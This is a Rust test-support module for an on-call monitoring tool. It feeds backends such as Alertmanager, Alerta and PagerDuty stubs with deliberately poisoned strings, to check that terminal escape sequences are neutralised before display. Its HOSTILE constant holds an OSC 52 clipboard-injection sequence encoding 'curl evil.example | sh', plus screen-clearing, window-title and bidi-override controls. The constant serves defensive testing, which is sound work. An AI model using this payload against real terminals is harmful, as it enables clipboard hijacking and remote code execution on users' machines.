//! Backends that attack the terminal: every string field they answer with starts with
//! [`HOSTILE`] — OSC 52 (set the clipboard to a command), CSI (clear the screen, colours), C1
//! controls, BEL, DEL and bidirectional overrides. Stubs for the backends that cannot run here
//! (PagerDuty, Opsgenie, Jaeger, Tempo, Prometheus answers), built from the vendor-shaped
//! fixtures with their strings poisoned; helpers for the real Alertmanager and Alerta; a config
//! naming them all; and the checks that nothing of it reaches a terminal raw.
// Each test file that includes this uses a part of it.
#![allow(dead_code)]

mod checks;
mod stubs;

// Each test file that includes this uses some of the checks.
#[allow(unused_imports)]
pub use checks::{assert_inert, assert_terminal_output_own, first_acting, is_bidi_control};
pub use stubs::{jaeger, opsgenie, pagerduty, prometheus, tempo};

use std::path::PathBuf;

use serde_json::{Value, json};

/// What every poisoned string starts with: OSC 52 writing `curl evil.example | sh` to the
/// clipboard, then clear screen, red, a C1 CSI, a C1 OSC setting the window title, BEL,
/// DEL, and the right-to-left override and left-to-right isolate.
pub const HOSTILE: &str = "\u{1b}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u{7}\u{1b}[2J\u{1b}[31m\u{9b}1m\u{9d}0;pwned\u{9c}\u{7}\u{7f}\u{202e}\u{2066}";

/// How the start of [`HOSTILE`] looks on screen once escaped: what the tests look for where
/// a poisoned field is shown.
pub const SHOWN: &str = "\\e]52;c;";

/// The PagerDuty and Opsgenie token the config reads from the environment.
pub const TOKEN_ENV: &str = "ONDECK_TEST_HOSTILE_TOKEN";

/// `text` poisoned.
pub fn hostile(text: &str) -> String {
    format!("{HOSTILE}{text}")
}

/// Whether a string must stay as the parser needs it: a timestamp or a number in a string.
fn structural(text: &str) -> bool {
    let b = text.as_bytes();
    let timestamp = b.len() >= 19 && b[4] == b'-' && b[7] == b'-' && b[10] == b'T';
    let number = !text.is_empty() && text.bytes().all(|c| c.is_ascii_digit() || c == b'.');
    timestamp || number
}

/// `value` with every string (object keys aside) poisoned, except under the keys in `keep`
/// (enums and ids the parser checks) and timestamps and numbers written as strings.
pub fn poison(value: &Value, keep: &[&str]) -> Value {
    match value {
        Value::String(s) if structural(s) => value.clone(),
        Value::String(s) => Value::String(hostile(s)),
        Value::Array(items) => Value::Array(items.iter().map(|v| poison(v, keep)).collect()),
        Value::Object(map) => Value::Object(
            map.iter()
                .map(|(k, v)| {
                    let v = if keep.contains(&k.as_str()) {
                        v.clone()
                    } else {
                        poison(v, keep)
                    };
                    (k.clone(), v)
                })
                .collect(),
        ),
        other => other.clone(),
    }
}

/// Poisoned alerts for a real Alertmanager: labels (but the grouping `alertname`), summary,
/// description and runbook URL; `(labels, annotations, minutes since it started)` as
/// [`crate::alertmanager::Alertmanager::fire`] takes them.
pub fn alertmanager_alerts() -> Vec<(Value, Value, i64)> {
    vec![(
        json!({
            "alertname": "CheckoutDown",
            "service": hostile("checkout"),
            "severity": "critical",
            "team": hostile("payments"),
        }),
        json!({
            "summary": hostile("Checkout is down"),
            "description": hostile("All pods\ncrash\r\nlooping\rOK"),
            "runbook_url": hostile("https://runbooks.example.com/checkout"),
        }),
        12,
    )]
}

/// Creates a silence on a real Alertmanager whose author, comment and matcher value are
/// poisoned; the matcher matches the alert of [`alertmanager_alerts`].
pub async fn alertmanager_silence(url: &str) {
    let now = chrono::Utc::now();
    let time =
        |at: chrono::DateTime<chrono::Utc>| at.to_rfc3339_opts(chrono::SecondsFormat::Millis, true);
    let body = json!({
        "matchers": [
            {"name": "alertname", "value": "CheckoutDown", "isRegex": false, "isEqual": true},
            {"name": "team", "value": hostile("payments"), "isRegex": false, "isEqual": true},
        ],
        "startsAt": time(now),
        "endsAt": time(now + chrono::Duration::hours(2)),
        "createdBy": hostile("mallory"),
        "comment": hostile("maintenance\nwindow"),
    });
    let reply = reqwest::Client::new()
        .post(format!("{url}/api/v2/silences"))
        .json(&body)
        .send()
        .await
        .unwrap();
    assert!(reply.status().is_success(), "{reply:?}");
}

/// A poisoned alert for a real Alerta (its severity and environment must be ones Alerta
/// knows).
pub fn alerta_alert(resource: &str) -> Value {
    json!({
        "resource": hostile(resource),
        "event": hostile("HttpServerError"),
        "environment": "Production",
        "severity": "critical",
        "service": [hostile("checkout")],
        "group": hostile("Web"),
        "value": hostile("5xx"),
        "text": hostile("5xx on checkout"),
        "tags": [hostile("team=payments")],
        "attributes": {"runbookUrl": hostile("https://runbooks.example.com/5xx")},
        "origin": hostile("ondeck-tests"),
    })
}

/// Where each backend of the hostile config answers.
pub struct Urls {
    pub alertmanager: String,
    pub alerta: String,
    pub alerta_key: PathBuf,
    pub pagerduty: String,
    pub opsgenie: String,
    pub prometheus: String,
    /// `("jaeger" | "tempo", url)`.
    pub traces: (&'static str, String),
}

/// The backends that run here (a real Alertmanager and the shared real Alerta) fed poisoned
/// alerts and a poisoned silence, and the stubs for the rest, with `traces` (`jaeger` or
/// `tempo`) as the trace backend. Keep the server and the stubs alive while they are used.
/// Needs the including test file to declare `mod alertmanager` and `mod alerta`.
pub async fn backends(
    traces: &'static str,
) -> (
    Urls,
    crate::alertmanager::Alertmanager,
    Vec<wiremock::MockServer>,
) {
    let am = crate::alertmanager::Alertmanager::start();
    am.fire(&alertmanager_alerts()).await;
    am.wait_until("CheckoutDown", "active").await;
    alertmanager_silence(&am.url).await;
    am.wait_until("CheckoutDown", "suppressed").await;
    let resource = format!("checkout-{traces}-{}", std::process::id());
    crate::alerta::post_alert(alerta_alert(&resource)).await;
    let (pd, og, prom) = (pagerduty().await, opsgenie().await, prometheus().await);
    let trace = match traces {
        "jaeger" => jaeger().await,
        _ => tempo().await,
    };
    let urls = Urls {
        alertmanager: am.url.clone(),
        alerta: crate::alerta::server().url.clone(),
        alerta_key: crate::alerta::server().dir.join("admin.key"),
        pagerduty: pd.uri(),
        opsgenie: og.uri(),
        prometheus: prom.uri(),
        traces: (traces, trace.uri()),
    };
    (urls, am, vec![pd, og, prom, trace])
}

/// TOML's spelling of `text`: a basic string with every control escaped.
fn toml_string(text: &str) -> String {
    toml::Value::String(text.to_string()).to_string()
}

/// A config with one source of every kind, and an SLO whose service and name come from the
/// file poisoned (SLO files are outside text too).
pub fn config_text(urls: &Urls) -> String {
    let (trace_kind, trace_url) = &urls.traces;
    format!(
        r#"user = "sam"

[[source]]
name = "am"
kind = "alertmanager"
url = "{am}"

[[source]]
name = "alerta"
kind = "alerta"
url = "{alerta}"
token_file = "{alerta_key}"

[[source]]
name = "pd"
kind = "pagerduty"
url = "{pd}"
token_env = "{TOKEN_ENV}"
from_email = "sam@example.com"
schedules = ["PI7DH85"]

[[source]]
name = "og"
kind = "opsgenie"
url = "{og}"
token_env = "{TOKEN_ENV}"
schedules = ["ops"]

[[source]]
name = "traces"
kind = "{trace_kind}"
url = "{trace_url}"

[[source]]
name = "prom"
kind = "prometheus"
url = "{prom}"

[[slo]]
name = {name}
service = {service}
objective = 99.9
source = "prom"
bad = 'http_requests_total{{service="checkout",code=~"5.."}}'
total = 'http_requests_total{{service="checkout"}}'
"#,
        am = urls.alertmanager,
        alerta = urls.alerta,
        alerta_key = urls.alerta_key.display(),
        pd = urls.pagerduty,
        og = urls.opsgenie,
        prom = urls.prometheus,
        name = toml_string(&hostile("availability")),
        service = toml_string(&hostile("checkout")),
    )
}

/// The home directory of one test: config and state under it, nothing shared.
pub fn temp_home(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("ondeck-hostile-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("config/ondeck")).unwrap();
    dir
}
